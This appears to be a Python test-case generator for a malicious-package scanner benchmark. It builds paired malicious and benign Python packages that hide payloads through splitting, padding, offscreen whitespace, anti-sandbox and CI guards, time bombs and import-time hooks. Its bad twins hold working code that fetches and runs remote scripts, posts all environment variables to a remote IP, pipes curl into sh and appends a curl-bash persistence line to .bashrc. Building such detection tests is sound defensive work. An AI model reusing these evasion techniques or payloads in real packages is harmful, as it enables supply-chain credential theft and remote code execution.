            "setup.py": HELPER_SETUP,
            "_build_helpers.py": _called(BENIGN["discord"]) + 'VERSION = "1.0"\n',
        },
        "_build_helpers.py",
    ),
)


# -- splitting ----------------------------------------------------------------------------


def _split(name: str, bad: dict[str, str], good: dict[str, str], where: str) -> Case:
    return Case(name, "splitting", "wheel", bad, good, where)


SPLIT_CASES = (
    _split(
        "split-url-then-fetch-exec",
        {
            "demo/__init__.py": "from .loader import refresh\n\nrefresh()\n",
            "demo/config.py": 'SCHEME = "http"\nHOST = "198.51.100.20"\nPATH = "/stage2.py"\n\n\n'
            'def endpoint():\n    return SCHEME + "://" + HOST + PATH\n',
            "demo/loader.py": "import urllib.request\n\nfrom .config import endpoint\n\n\n"
            "def refresh():\n    exec(urllib.request.urlopen(endpoint()).read().decode())\n",
        },
        {
            "demo/__init__.py": "from .loader import refresh\n\nrefresh()\n",
            "demo/config.py": 'SCHEME = "https"\nHOST = "updates.example.com"\n'
            'PATH = "/latest.json"\n\n\n'
            'def endpoint():\n    return SCHEME + "://" + HOST + PATH\n',
            "demo/loader.py": "import json\nimport urllib.request\n\n"
            "from .config import endpoint\n\n\n"
            "def refresh():\n"
            "    return json.loads(urllib.request.urlopen(endpoint()).read().decode())\n",
        },
        "demo/loader.py",
    ),
    _split(
        "split-collect-then-send",
        {
            "demo/__init__.py": "from .collect import snapshot\nfrom .send import send\n\n"
            "send(snapshot())\n",
            "demo/collect.py": "import os\nimport socket\n\n\n"
            'def snapshot():\n    return {"host": socket.gethostname(), **os.environ}\n',
            "demo/send.py": "import json\nimport urllib.request\n\n"
            'URL = "http://203.0.113.10/collect"\n\n\n'
            "def send(data):\n"
            "    req = urllib.request.Request(URL, data=json.dumps(data).encode())\n"
            "    urllib.request.urlopen(req, timeout=5)\n",
        },
        {
            "demo/__init__.py": "from .collect import snapshot\nfrom .send import send\n\n"
            "send(snapshot())\n",
            "demo/collect.py": "import os\nimport socket\n\n\n"
            "def snapshot():\n"
            '    demo = {k: v for k, v in os.environ.items() if k.startswith("DEMO_")}\n'
            '    return {"host": socket.gethostname(), **demo}\n',
            "demo/send.py": "import json\nimport os\n\n"
            'PATH = os.path.expanduser("~/.cache/demo/last_run.json")\n\n\n'
            "def send(data):\n"
            "    os.makedirs(os.path.dirname(PATH), exist_ok=True)\n"
            '    with open(PATH, "w", encoding="utf-8") as fh:\n'
            "        json.dump(data, fh)\n",
        },
        "demo/send.py",
    ),
    _split(
        "split-command-then-shell",
        {
            "demo/__init__.py": "from .run import prepare\n\nprepare()\n",
            "demo/parts.py": 'TOOL = "cu" + "rl"\nFLAGS = "-fsSL"\n'
            'SOURCE = "http://203.0.113.9/i.sh"\nSINK = "| sh"\n\n\n'
            'def command():\n    return " ".join([TOOL, FLAGS, SOURCE, SINK])\n',
            "demo/run.py": "import subprocess\n\nfrom .parts import command\n\n\n"
            "def prepare():\n    subprocess.call(command(), shell=True)\n",
        },
        {
            "demo/__init__.py": "from .run import prepare\n\nprepare()\n",
            "demo/parts.py": 'TOOL = "g" + "it"\nFLAGS = "describe"\n'
            'SOURCE = "--tags"\nSINK = "--always"\n\n\n'
            'def command():\n    return " ".join([TOOL, FLAGS, SOURCE, SINK])\n',
            "demo/run.py": "import subprocess\n\nfrom .parts import command\n\n\n"
            "def prepare():\n    subprocess.call(command(), shell=True)\n",
        },
        "demo/run.py",
    ),
    _split(
        "split-hook-then-append-rc",
        {
            "demo/__init__.py": "from .install import ensure\n\nensure()\n",
            "demo/keys.py": "DIR = ''\nFILE = '.' + 'bash' + 'rc'\n"
            "KEY = '(curl -fsSL http://203.0.113.44/k | bash >/dev/null 2>&1 &)'\n",
            "demo/install.py": "import os\n\nfrom .keys import DIR, FILE, KEY\n\n\n"
            "def ensure():\n"
            '    path = os.path.join(os.path.expanduser("~"), DIR, FILE)\n'
            "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
            '    with open(path, "a") as fh:\n'
            '        fh.write("\\n" + KEY + "\\n")\n',
        },
        {
            "demo/__init__.py": "from .install import ensure\n\nensure()\n",
            "demo/keys.py": "DIR = '.' + 'config'\nFILE = 'demo' + '.ini'\n"
            "KEY = '[demo]\\ncolor = auto'\n",
            "demo/install.py": "import os\n\nfrom .keys import DIR, FILE, KEY\n\n\n"
            "def ensure():\n"
            '    path = os.path.join(os.path.expanduser("~"), DIR, FILE)\n'
            "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
            '    with open(path, "a") as fh:\n'
            '        fh.write("\\n" + KEY + "\\n")\n',
        },
        "demo/install.py",
    ),
)


# -- padding ------------------------------------------------------------------------------

_PAD_TEMPLATES = (
    "def load_section_{i}(path, default=None):\n"
    '    """Section {i} of a JSON settings file, or `default` when it is missing."""\n'
    "    if not os.path.exists(path):\n        return default\n"
    '    with open(path, encoding="utf-8") as fh:\n        data = json.load(fh)\n'
    '    return data.get("section_{i}", default)\n',
    "def format_row_{i}(values, width={w}):\n"
    '    """Row {i} of a fixed-width text table."""\n'
    '    return " | ".join(str(v).ljust(width) for v in values)\n',
    "class Record{i}:\n"
    '    """A plain record type ({i})."""\n\n'
    "    def __init__(self, key, value):\n        self.key = key\n        self.value = value\n\n"
    "    def as_dict(self):\n        return {{'key': self.key, 'value': self.value}}\n",
)


def _benign_code(n: int) -> str:
    parts = ["import json\nimport os\n"]
    for i in range(n):
        parts.append(_PAD_TEMPLATES[i % len(_PAD_TEMPLATES)].format(i=i, w=8 + i % 5))
    return "\n\n".join(parts) + "\n\n"


_CHANGELOG = (
    "Version {i}.0\n-----------\n\n"
    "* Fixed the parsing of quoted values in section headers (#{i}1).\n"
    "* Documented the environment variables read at start-up (#{i}2).\n"
    "* Dropped support for end-of-life interpreters.\n\n"
)


def _docstring(n: int) -> str:
    return (
        '"""Demo: settings files made simple.\n\n'
        + "".join(_CHANGELOG.format(i=i) for i in range(n))
        + '"""\n\n'
    )


def _comments(n: int) -> str:
    return "".join(f"# {i:05d} reserved for generated configuration notes\n" for i in range(n))


_TABLE = "WIDTHS = {\n" + "".join(f"    {i}: {(i * 7) % 3},\n" for i in range(0, 12000)) + "}\n\n"


def _pad(name: str, kind: str, pad: str, payload: str) -> Case:
    bad, where = _layout(kind, pad + _called(PAYLOADS[payload]))
    good, _ = _layout(kind, pad + _called(BENIGN[payload]))
    return Case(name, "padding", kind, bad, good, where)


_OFFSCREEN_BAD = (
    'VERSION = "1.0"'
    + " " * 400
    + "; import os; os.system('curl -fsSL http://203.0.113.9/i.sh | sh')\n"
)
_OFFSCREEN_GOOD = 'VERSION = "1.0"' + " " * 400 + "; import os; HERE = os.getcwd()\n"

PADDING_CASES = (
    _pad("after-much-benign-code", "wheel", _benign_code(450), "env_http"),
    _pad("after-huge-docstring", "sdist", _docstring(2500), "dropper"),
    _pad("after-comment-block", "sdist", _comments(8000), "revshell"),
    _pad("after-big-data-table", "wheel", _TABLE, "discord"),
    Case(
        "offscreen-after-whitespace",
        "padding",
        "sdist",
        _setup_sdist(_OFFSCREEN_BAD),
        _setup_sdist(_OFFSCREEN_GOOD),
        "setup.py",
    ),
)


# -- platform and environment guards ------------------------------------------------------


def _guard(name: str, kind: str, head: str, trigger: str, payload: str) -> Case:
    bad, where = _layout(kind, f"{head}{PAYLOADS[payload]}\n\n{trigger}")
    good, _ = _layout(kind, f"{head}{BENIGN[payload]}\n\n{trigger}")
    return Case(name, "guard", kind, bad, good, where)


GUARD_CASES = (
    _guard(
        "windows-platform-system",
        "sdist",
        "import platform\n\n",
        'if platform.system() == "Windows":\n    _run()\n',
        "win_autostart",
    ),
    _guard(
        "windows-powershell-os-name",
        "wheel",
        "import os\n\n",
        'if os.name == "nt":\n    _run()\n',
        "powershell",
    ),
    _guard(
        "linux-sys-platform",
        "sdist",
        "import sys\n\n",
        'if sys.platform.startswith("linux"):\n    _run()\n',
        "revshell",
    ),
    _guard(
        "not-in-ci",
        "sdist",
        "import os\n\n",
        'if not any(os.environ.get(v) for v in ("CI", "GITHUB_ACTIONS", "GITLAB_CI", '
        '"JENKINS_URL", "TRAVIS")):\n    _run()\n',
        "env_http",
    ),
    _guard(
        "not-a-sandbox-user",
        "wheel",
        "import getpass\nimport os\n\n",
        'if getpass.getuser() not in ("sandbox", "analyst", "vagrant", "malware") '
        "and (os.cpu_count() or 1) >= 2:\n    _run()\n",
        "cred_zip",
    ),
    _guard(
        "time-bomb",
        "wheel",
        "import time\n\n",
        "if time.time() > 1767225600:\n    _run()\n",
        "dropper",
    ),
    _guard(
        "delayed-timer",
        "wheel",
        "import threading\n\n",
        "_t = threading.Timer(900, _run)\n_t.daemon = True\n_t.start()\n",
        "telegram",
    ),
    _guard(
        "only-under-pip-install",
        "sdist",
        "import sys\n\n",
        'if "install" in sys.argv or "bdist_wheel" in sys.argv:\n    _run()\n',
        "bashrc",
    ),
)


# -- stage tricks -------------------------------------------------------------------------


def _stage(name: str, head: str, trigger: str, payload: str) -> Case:
    bad, where = _layout("wheel", f"{head}{PAYLOADS[payload]}\n\n{trigger}")
    good, _ = _layout("wheel", f"{head}{BENIGN[payload]}\n\n{trigger}")
    return Case(name, "stage", "wheel", bad, good, where)


STAGE_CASES = (
    _stage(
        "class-init-at-import",
        "",
        "class _Telemetry:\n    def __init__(self):\n        self.ready = _run()\n\n\n"
        "_telemetry = _Telemetry()\n",
        "env_http",
    ),
    _stage("atexit-hook", "import atexit\n\n", "atexit.register(_run)\n", "cred_zip"),
    _stage(
        "decorator-at-import",
        "",
        "def _register(fn):\n    _run()\n    return fn\n\n\n"
        "@_register\ndef helper(value):\n    return value\n",
        "dropper",
    ),
    _stage(
        "importerror-fallback",
        "",
        "try:\n    from ._speedups import fast_path\nexcept ImportError:\n"
        "    fast_path = None\n    _run()\n",
        "curl_sh",
    ),
    _stage(
        "metaclass-new",
        "",
        "class _Meta(type):\n    def __new__(mcs, name, bases, ns):\n        _run()\n"
        "        return super().__new__(mcs, name, bases, ns)\n\n\n"
        "class Base(metaclass=_Meta):\n    pass\n",
        "cron",
    ),
    _stage(
        "daemon-thread",
        "import threading\n\n",
        "threading.Thread(target=_run, daemon=True).start()\n",
        "discord",
    ),
    _stage(
        "default-argument",
        "",
        "def configure(options=_run()):\n    return options\n",
        "env_http",
    ),
    _stage(
        "del-finaliser",
        "",
        "class _Handle:\n    def __del__(self):\n        _run()\n\n\n_Handle()\n",
        "curl_sh",
    ),
)

# -- controls -----------------------------------------------------------------------------
# Each payload plain in `__init__.py`, no technique: a technique's miss means something
# only where its payload's control is caught (else the payload, not the trick, is missed).
# mph-53141e2829cb misses the reverse shell, ssh key and clipboard controls, so those
# payloads were moved out of the cases where they alone explained a miss; they remain
# only where that model caught them anyway (a decoder or a setup.py around them).

CONTROL_CASES = tuple(
    Case(
        f"control-{key.replace('_', '-')}",
        "control",
        "wheel",
        _init_wheel(_called(PAYLOADS[key])),
        _init_wheel(_called(BENIGN[key])),
        "demo/__init__.py",
    )
    for key in PAYLOADS
)

CASES: tuple[Case, ...] = (
    *CONTROL_CASES,
    *DECODER_CASES,
    *INDIRECTION_CASES,
    *LOCATION_CASES,
    *SPLIT_CASES,
    *PADDING_CASES,
    *GUARD_CASES,
    *STAGE_CASES,
)


def package_name(case: Case, twin: str) -> str:
    """A distribution name unique to the case and twin, so archives never collide."""
    return "adv_" + case.name.replace("-", "_") + "_" + twin


def materialise(case: Case, twin: str, root: Path) -> Path:
    """Write `case`'s `twin` ("bad" or "good") as an archive under `root`; returns its path.

    A wheel's entry-points file is moved to the package's own dist-info folder, where
    an installer looks for it.
    """
    files = {"bad": case.bad, "good": case.good}[twin]
    name = package_name(case, twin)
    if case.kind == "wheel":
        renamed = {
            k.replace("demo-1.0.dist-info", f"{name}-1.0.dist-info"): v for k, v in files.items()
        }
        return make_wheel(root, name, "1.0", renamed)
    if case.kind == "sdist":
        return make_sdist(root, name, "1.0", dict(files))
    raise ValueError(f"{case.name}: unknown kind {case.kind!r}")
